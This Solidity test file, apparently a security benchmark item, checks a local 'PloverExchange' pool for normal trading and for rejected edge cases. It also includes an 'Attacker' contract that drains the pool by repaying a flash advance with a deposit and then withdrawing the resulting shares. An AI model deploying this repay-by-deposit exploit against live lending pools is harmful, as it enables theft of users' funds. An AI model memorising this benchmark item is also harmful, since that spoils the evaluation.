// SPDX-License-Identifier: GPL-3.0-or-later
pragma solidity 0.7.6;

import "./PloverExchange.sol";

// assay-canary-c26ca95f-a8d7-407a-a5b7-0d0e337edb56

interface Vm {
    function prank(address sender) external;
    function expectRevert(bytes calldata reason) external;
}

/// A currency that can be paid in and out, at times.
contract Sieve is ICurrency {
    bool private takes;
    bool private gives;

    function set(bool takes_, bool gives_) external {
        takes = takes_;
        gives = gives_;
    }

    function balanceOf(address) external pure override returns (uint256) {
        return 0;
    }

    function transfer(address, uint256) external view override returns (bool) {
        return gives;
    }

    function transferFrom(address, address, uint256) external view override returns (bool) {
        return takes;
    }
}

/// Takes an advance of nothing, calls the exchange meanwhile, and hands on what that says.
contract Nested is IAdvanceTaker {
    PloverExchange internal plover;

    constructor(PloverExchange plover_) {
        plover = plover_;
    }

    function nest(bytes calldata inner) external {
        plover.advance(0, 0, inner);
    }

    function onAdvance(address, uint256, uint256, bytes calldata inner) external override {
        (bool ok, bytes memory answer) = address(plover).call(inner);
        if (ok) return;
        assembly {
            revert(add(answer, 32), mload(answer))
        }
    }
}

contract Token is ICurrency {
    address private minter = msg.sender;
    mapping(address => uint256) public override balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external override returns (bool) {
        require(balanceOf[msg.sender] >= amount, "balance");
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external override returns (bool) {
        require(balanceOf[from] >= amount && allowance[from][msg.sender] >= amount, "balance or allowance");
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant MEMBER = address(0x3E3BE4);
    address internal constant TRAVELLER = address(0x74A);

    Token internal first;
    Token internal second;
    PloverExchange internal plover;
    Attacker internal thief;

    function setUp() public {
        first = new Token();
        second = new Token();
        plover = new PloverExchange(first, second);
        first.mint(MEMBER, 2_000_000e6);
        second.mint(MEMBER, 2_000_000e6);
        _approve(MEMBER);
        vm.prank(MEMBER);
        plover.deposit(0, 2_000_000e6);
        vm.prank(MEMBER);
        plover.deposit(1, 2_000_000e6);
        first.mint(TRAVELLER, 10_000e6);
        _approve(TRAVELLER);

        thief = new Attacker(plover, first, second);
        first.mint(address(thief), 5_000e6);
        second.mint(address(thief), 5_000e6);
    }

    function _approve(address who) internal {
        vm.prank(who);
        first.approve(address(plover), uint256(-1));
        vm.prank(who);
        second.approve(address(plover), uint256(-1));
    }

    function test_Regular() public {
        vm.prank(TRAVELLER);
        plover.exchange(0, 10_000e6);
        require(second.balanceOf(TRAVELLER) == 9_996e6, "exchanged");
        require(plover.worth(plover.shareCount()) == 4_000_004e6, "the fee stays");

        thief.borrow(1, 1_000_000e6);
        require(second.balanceOf(address(thief)) == 4_000e6, "the fee of the advance");
        require(plover.worth(plover.shareCount()) == 4_001_004e6, "books");
        require(!thief.tryShort(1, 1_000_000e6), "not repaid");
        first.mint(address(plover), 1_000e6);
        require(!thief.tryShort(0, 100_000e6), "not repaid with what lies beside the books");

        vm.prank(TRAVELLER);
        uint256 shares = plover.deposit(1, 4_000e6);
        vm.prank(TRAVELLER);
        (uint256 a, uint256 b) = plover.withdraw(shares);
        require(a + b <= 4_000e6 && a + b > 3_999e6, "in and out");
        vm.prank(TRAVELLER);
        (bool ok, ) = address(plover).call(abi.encodeWithSelector(plover.withdraw.selector, 1));
        require(!ok, "more than owned");
    }

    // What is refused, each from the state after setUp().

    function test_RefusesDepositsOfNothing() public {
        vm.expectRevert("Plover: no share");
        plover.deposit(0, 0);
    }

    function test_RefusesNumbersBeyondTheirRange() public {
        vm.expectRevert("Plover: overflow");
        plover.worth(uint256(-1));
        (PloverExchange other, Sieve sieve) = _loose();
        sieve.set(true, true);
        other.deposit(0, uint256(-1));
        vm.expectRevert("Plover: overflow");
        other.deposit(1, 1);
    }

    function test_RefusesAThirdCurrency() public {
        vm.expectRevert("Plover: unknown currency");
        plover.exchange(2, 1e6);
    }

    function test_RefusesCurrenciesThatDoNotMove() public {
        (PloverExchange other, Sieve sieve) = _loose();
        vm.expectRevert("Plover: not paid");
        other.deposit(0, 10e6);
        sieve.set(true, false);
        other.deposit(0, 10e6);
        vm.expectRevert("Plover: not sent");
        other.withdraw(1e6);
        sieve.set(false, true);
        vm.expectRevert("Plover: not paid");
        other.exchange(1, 1e6);
    }

    function test_RefusesASecondCallDuringAnAdvance() public {
        Nested nested = new Nested(plover);
        vm.expectRevert("Plover: occupied");
        nested.nest(abi.encodeWithSelector(plover.withdraw.selector, 0));
        vm.expectRevert("Plover: occupied");
        nested.nest(abi.encodeWithSelector(plover.exchange.selector, 0, 0));
        vm.expectRevert("Plover: occupied");
        nested.nest(abi.encodeWithSelector(plover.advance.selector, 0, 0, ""));
    }

    /// An exchange of one loose currency for itself.
    function _loose() internal returns (PloverExchange other, Sieve sieve) {
        sieve = new Sieve();
        other = new PloverExchange(sieve, sieve);
    }

    function exploit() public {
        thief.run(0);
        thief.run(1);
        thief.leave();
    }

    function test_Exploit() public {
        uint256 before = first.balanceOf(address(thief));
        exploit();
        require(first.balanceOf(address(thief)) >= before + 1_900_000e6, "nothing gained");
    }

    function target() public view returns (address) {
        return address(plover);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }

    function token() public view returns (address) {
        return address(first);
    }
}

/// Repays an advance by depositing it.
contract Attacker is IAdvanceTaker {
    PloverExchange internal plover;
    Token internal first;
    Token internal second;
    uint8 internal mode;

    constructor(PloverExchange plover_, Token first_, Token second_) {
        plover = plover_;
        first = first_;
        second = second_;
        first_.approve(address(plover_), uint256(-1));
        second_.approve(address(plover_), uint256(-1));
    }

    function borrow(uint8 which, uint256 amount) external {
        mode = 0;
        plover.advance(which, amount, "");
    }

    function tryShort(uint8 which, uint256 amount) external returns (bool ok) {
        mode = 1;
        (ok, ) = address(plover).call(abi.encodeWithSelector(plover.advance.selector, which, amount, ""));
    }

    function run(uint8 which) external {
        mode = 2;
        Token t = which == 0 ? first : second;
        plover.advance(which, t.balanceOf(address(plover)), abi.encode(which));
    }

    function leave() external {
        plover.withdraw(plover.sharesOf(address(this)));
    }

    function onAdvance(address currency, uint256 amount, uint256 fee, bytes calldata data) external override {
        if (mode == 2) {
            plover.deposit(abi.decode(data, (uint8)), amount);
            Token(currency).transfer(msg.sender, fee);
        } else {
            Token(currency).transfer(msg.sender, mode == 0 ? amount + fee : amount);
        }
    }
}
